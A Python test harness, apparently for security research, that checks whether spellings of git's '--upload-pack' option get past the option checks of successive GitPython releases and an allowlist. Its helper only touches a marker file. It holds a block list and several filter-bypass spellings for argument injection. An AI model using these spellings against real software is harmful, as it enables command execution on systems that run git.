"""Send the options that got past GitPython's checks, one after the other, through the check of each release.

The checks are written here from what each release was said to check; the git behind them is the real one.
"""

import shlex
import subprocess
import tempfile
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

BLOCKED = ("upload-pack", "u", "config", "c")
ALLOWED = {"--branch", "--depth", "--no-tags"}

type Options = Sequence[str]
type Keywords = Mapping[str, str]
type Check = Callable[[Options, Keywords], bool]


def dashed(name: str) -> str:
    """Write a name as git wants it: ``u`` becomes ``-u``, ``upload_pack`` becomes ``--upload-pack``."""
    name = name.replace("_", "-")
    return f"-{name}" if len(name) == 1 else f"--{name}"


def command_line(options: Options, keywords: Keywords) -> list[str]:
    """Build the arguments for git; from here on they mean what git understands."""
    words = shlex.split(" ".join(options))
    for name, value in keywords.items():
        words += [dashed(name), value] if len(name) == 1 else [f"{dashed(name)}={value}"]
    return words


def unchecked(_options: Options, _keywords: Keywords) -> bool:
    return True


def check_of_strings(options: Options, _keywords: Keywords) -> bool:
    return not any(option.startswith(dashed(name)) for option in options for name in BLOCKED)


def check_of_names(options: Options, keywords: Keywords) -> bool:
    return check_of_strings(options, keywords) and not any(name in BLOCKED for name in keywords)


def check_of_words(options: Options, keywords: Keywords) -> bool:
    words = [word.split("=")[0] for word in command_line(options, keywords)]
    return not any(word == dashed(name) for word in words for name in BLOCKED)


def check_of_prefixes(options: Options, keywords: Keywords) -> bool:
    for word in command_line(options, keywords):
        if word.startswith("--"):
            part = word[2:].split("=")[0]
            if any(name.startswith(part) for name in BLOCKED if len(name) > 1):
                return False
        elif word.startswith(("-u", "-c")):
            return False
    return True


def allowlist(options: Options, keywords: Keywords) -> bool:
    return all(word.split("=")[0] in ALLOWED for word in command_line(options, keywords))


CHECKS: Mapping[str, Check] = {
    "3.1.29": unchecked,
    "3.1.30": check_of_strings,
    "3.1.32": check_of_names,
    "3.1.47": check_of_words,
    "3.1.51": check_of_prefixes,
    "allowlist": allowlist,
}
SPELLINGS: Sequence[tuple[str, Callable[[str], tuple[Options, Keywords]]]] = (
    ("--upload-pack=H", lambda helper: ([f"--upload-pack={helper}"], {})),
    ("-uH", lambda helper: ([f"-u{helper}"], {})),
    ('"upload-pack": H', lambda helper: ([], {"upload-pack": helper})),
    ("upload_pack=H", lambda helper: ([], {"upload_pack": helper})),
    ("--no-tags --upload-pack=H", lambda helper: ([f"--no-tags --upload-pack={helper}"], {})),
    ("upload_p=H", lambda helper: ([], {"upload_p": helper})),
    ("--no-tags", lambda _helper: (["--no-tags"], {})),
)


def clone(folder: Path, options: Options, keywords: Keywords) -> str:
    """Clone with the caller's options, and say whether the attacker's helper ran."""
    arguments = ["git", "clone", "--quiet", *command_line(options, keywords), str(folder / "from"), str(folder / "to")]
    subprocess.run(arguments, capture_output=True, check=False, timeout=30)
    if (folder / "ran").exists():
        return "RAN"
    return "cloned" if (folder / "to").exists() else "failed"


def attempt(check: Check, spelling: Callable[[str], tuple[Options, Keywords]]) -> str:
    """Send one spelling through one check; what passes reaches git."""
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        helper = folder / "helper"
        helper.write_text(f'#!/bin/sh\ntouch "{folder}/ran"\nexec git-upload-pack "$@"\n')
        helper.chmod(0o755)
        subprocess.run(["git", "init", "--quiet", str(folder / "from")], check=True, capture_output=True)
        options, keywords = spelling(str(helper))
        return clone(folder, options, keywords) if check(options, keywords) else "refused"


if __name__ == "__main__":
    print(f"{'what the caller passes':28}" + "".join(f"{name:>10}" for name in CHECKS))
    for shown, spelling in SPELLINGS:
        print(f"{shown:28}" + "".join(f"{attempt(check, spelling):>10}" for check in CHECKS.values()))
